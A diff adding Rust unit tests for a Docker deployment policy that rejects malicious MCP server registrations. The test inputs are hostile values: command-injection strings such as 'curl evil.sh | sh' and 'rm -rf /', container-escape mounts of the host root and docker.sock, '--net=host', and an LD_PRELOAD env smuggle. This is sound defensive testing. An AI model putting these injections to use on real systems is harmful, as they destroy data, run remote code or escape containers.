@@ -0,0 +1,334 @@
+// Unit tests for the policy applied to Docker deployments before they are registered or run
+// Malicious registrations must be rejected with the offending field; no Docker required
+
+use std::collections::HashMap;
+use std::path::PathBuf;
+use std::sync::Arc;
+
+use mcp_rust::aws::{AwsService, DirectKvStore, MemoryKvStore, MemorySecretStore};
+use mcp_rust::registry::docker::{run_args, DefaultLimits, DockerPolicy};
+use mcp_rust::registry::{
+    AuthMethod, DeploymentConfig, MCPServerConfig, MCPServerRegistry, MCPServerType, RegistryError,
+};
+
+fn policy() -> DockerPolicy {
+    DockerPolicy {
+        volume_root: PathBuf::from("/srv/mcp"),
+        default_limits: None,
+    }
+}
+
+/// The fields of a Docker deployment, valid unless overridden
+struct Docker {
+    image: String,
+    tag: String,
+    ports: Vec<String>,
+    volumes: Vec<String>,
+    network: Option<String>,
+    runtime: Option<String>,
+    memory_limit: Option<String>,
+    cpu_limit: Option<String>,
+    pids_limit: Option<u32>,
+    read_only_rootfs: bool,
+}
+
+fn valid() -> Docker {
+    Docker {
+        image: "ghcr.io/acme/mcp-github".to_string(),
+        tag: "1.4.2".to_string(),
+        ports: vec!["8080".to_string()],
+        volumes: Vec::new(),
+        network: None,
+        runtime: None,
+        memory_limit: None,
+        cpu_limit: None,
+        pids_limit: None,
+        read_only_rootfs: false,
+    }
+}
+
+impl Docker {
+    fn config(self) -> MCPServerConfig {
+        MCPServerConfig {
+            id: "github".to_string(),
+            name: "GitHub".to_string(),
+            description: "containerized integration".to_string(),
+            server_type: MCPServerType::Stdio,
+            deployment: DeploymentConfig::Docker {
+                image: self.image,
+                tag: self.tag,
+                ports: self.ports,
+                volumes: self.volumes,
+                network: self.network,
+                runtime: self.runtime,
+                memory_limit: self.memory_limit,
+                cpu_limit: self.cpu_limit,
+                pids_limit: self.pids_limit,
+                read_only_rootfs: self.read_only_rootfs,
+            },
+            env: HashMap::from([("LOG_LEVEL".to_string(), "debug".to_string())]),
+            auth_method: AuthMethod::None,
+            capabilities: Vec::new(),
+            health_check_interval_secs: 60,
+            auto_reconnect: false,
+            tool_timeout_secs: None,
+            restart_policy: None,
+        }
+    }
+}
+
+fn rejected_field(config: &MCPServerConfig) -> String {
+    match policy().validate_config(config) {
+        Err(RegistryError::InvalidConfig { field, .. }) => field,
+        other => panic!(
+            "expected InvalidConfig for {:?}, got {:?}",
+            config.deployment, other
+        ),
+    }
+}
+
+#[test]
+fn test_accepts_well_formed_configs() {
+    assert!(policy().validate_config(&valid().config()).is_ok());
+
+    let config = Docker {
+        image: "localhost:5000/tools/mcp_search".to_string(),
+        tag: "v2_rc-1".to_string(),
+        ports: vec!["127.0.0.1:9000:9000".to_string(), "53:53/udp".to_string()],
+        volumes: vec![
+            "/srv/mcp/github:/data".to_string(),
+            "/srv/mcp/cache:/cache:ro".to_string(),
+        ],
+        network: Some("mcp-net".to_string()),
+        runtime: Some("nvidia".to_string()),
+        memory_limit: Some("1536M".to_string()),
+        cpu_limit: Some("0.5".to_string()),
+        pids_limit: Some(64),
+        read_only_rootfs: true,
+    }
+    .config();
+    assert!(policy().validate_config(&config).is_ok());
+
+    // Other deployment types are not restricted here
+    let mut process = valid().config();
+    process.deployment = DeploymentConfig::Process {
+        command: "npx".to_string(),
+        args: vec!["-y".to_string(), "@acme/mcp".to_string()],
+    };
+    assert!(policy().validate_config(&process).is_ok());
+}
+
+#[test]
+fn test_rejects_malicious_images_and_tags() {
+    for bad in [
+        "x; rm -rf /",
+        "--privileged",
+        "alpine && curl evil.sh | sh",
+        "Upper/Case",
+        "acme//mcp",
+        "acme/mcp:latest",
+        "$(whoami)",
+        "",
+    ] {
+        let config = Docker {
+            image: bad.to_string(),
+            ..valid()
+        }
+        .config();
+        assert_eq!(rejected_field(&config), "deployment.image", "{:?}", bad);
+    }
+
+    let too_long = "x".repeat(129);
+    for bad in ["latest; reboot", "-v", ".hidden", "", "a b", &too_long] {
+        let config = Docker {
+            tag: bad.to_string(),
+            ..valid()
+        }
+        .config();
+        assert_eq!(rejected_field(&config), "deployment.tag", "{:?}", bad);
+    }
+}
+
+#[test]
+fn test_rejects_bad_port_mappings() {
+    for bad in [
+        "80:80 --privileged",
+        "abc",
+        "0",
+        "70000:80",
+        "8080:80/sctp",
+        "evil:80:80",
+        "8000-8010:80",
+        "",
+    ] {
+        let config = Docker {
+            ports: vec!["8080".to_string(), bad.to_string()],
+            ..valid()
+        }
+        .config();
+        assert_eq!(rejected_field(&config), "deployment.ports[1]", "{:?}", bad);
+    }
+}
+
+#[test]
+fn test_restricts_volumes_to_the_allowed_root() {
+    for bad in [
+        "/:/host",
+        "/var/run/docker.sock:/var/run/docker.sock",
+        "/srv/mcp/../../etc:/etc",
+        "/srv/mcpevil:/data",
+        "relative:/data",
+        "named-volume:/data",
+        "/srv/mcp/data:relative",
+        "/srv/mcp/data:/data:z",
+        "/srv/mcp/data",
+    ] {
+        let config = Docker {
+            volumes: vec![bad.to_string()],
+            ..valid()
+        }
+        .config();
+        assert_eq!(
+            rejected_field(&config),
+            "deployment.volumes[0]",
+            "{:?}",
+            bad
+        );
+    }
+}
+
+#[test]
+fn test_rejects_host_network_and_bad_names() {
+    for bad in ["host", "--net=host", "container:victim"] {
+        let config = Docker {
+            network: Some(bad.to_string()),
+            ..valid()
+        }
+        .config();
+        assert_eq!(rejected_field(&config), "deployment.network", "{:?}", bad);
+    }
+
+    let config = Docker {
+        runtime: Some("runc --privileged".to_string()),
+        ..valid()
+    }
+    .config();
+    assert_eq!(rejected_field(&config), "deployment.runtime");
+
+    let mut config = valid().config();
+    config.id = "github; docker run".to_string();
+    assert_eq!(rejected_field(&config), "id");
+}
+
+#[test]
+fn test_rejects_bad_resource_limits() {
+    for bad in [
+        "",
+        "0",
+        "0m",
+        "512mb",
+        "-1",
+        "1.5g",
+        "512m --privileged",
+        "m",
+    ] {
+        let config = Docker {
+            memory_limit: Some(bad.to_string()),
+            ..valid()
+        }
+        .config();
+        assert_eq!(
+            rejected_field(&config),
+            "deployment.memory_limit",
+            "{:?}",
+            bad
+        );
+    }
+
+    for bad in ["", "0", "0.0", "-1", "1,5", "1e3", "two", ".", "inf"] {
+        let config = Docker {
+            cpu_limit: Some(bad.to_string()),
+            ..valid()
+        }
+        .config();
+        assert_eq!(rejected_field(&config), "deployment.cpu_limit", "{:?}", bad);
+    }
+
+    let config = Docker {
+        pids_limit: Some(0),
+        ..valid()
+    }
+    .config();
+    assert_eq!(rejected_field(&config), "deployment.pids_limit");
+}
+
+#[test]
+fn test_policy_fills_in_default_limits() {
+    // No limits unless asked for
+    let args = run_args("mcp-acme-github", &valid().config().deployment, None);
+    assert!(!args
+        .iter()
+        .any(|arg| ["--memory", "--cpus", "--pids-limit", "--read-only"].contains(&arg.as_str())));
+
+    // A policy requiring limits fills in only what the deployment leaves unset
+    let policy = DockerPolicy {
+        default_limits: Some(DefaultLimits::default()),
+        ..policy()
+    };
+    let config = Docker {
+        cpu_limit: Some("2".to_string()),
+        ..valid()
+    }
+    .config();
+    let args = run_args(
+        "mcp-acme-github",
+        &policy.with_default_limits(&config.deployment),
+        None,
+    );
+    assert!(
+        args.join(" ")
+            .contains("--memory 512m --cpus 2 --pids-limit 256 --"),
+        "{:?}",
+        args
+    );
+}
+
+#[test]
+fn test_rejects_env_injection() {
+    for (key, value) in [
+        ("BAD KEY", "x"),
+        ("1ST", "x"),
+        ("A=B", "x"),
+        ("TOKEN", "abc\nLD_PRELOAD=/tmp/evil.so"),
+        ("TOKEN", "abc\r"),
+    ] {
+        let mut config = valid().config();
+        config.env = HashMap::from([(key.to_string(), value.to_string())]);
+        assert_eq!(rejected_field(&config), format!("env.{}", key));
+    }
+}
+
+#[tokio::test]
+async fn test_registration_rejects_policy_violations() {
+    let store = Arc::new(MemoryKvStore::new());
+    let aws_service = Arc::new(AwsService::new("us-west-2").await.unwrap());
+    let registry = MCPServerRegistry::new(aws_service)
+        .with_store(store.clone())
+        .with_secret_store(Arc::new(MemorySecretStore::new()))
+        .with_docker_policy(policy());
+
+    let config = Docker {
+        volumes: vec!["/:/host".to_string()],
+        ..valid()
+    }
+    .config();
+    let err = registry.register_server("acme", config).await.unwrap_err();
+    assert_eq!(
+        err.to_string(),
+        "Invalid deployment.volumes[0]: host path must be under /srv/mcp"
+    );
+
+    // Nothing is stored or registered
+    assert!(store.kv_list("").await.unwrap().is_empty());
+    assert!(registry.list_servers("acme").await.unwrap().is_empty());
+}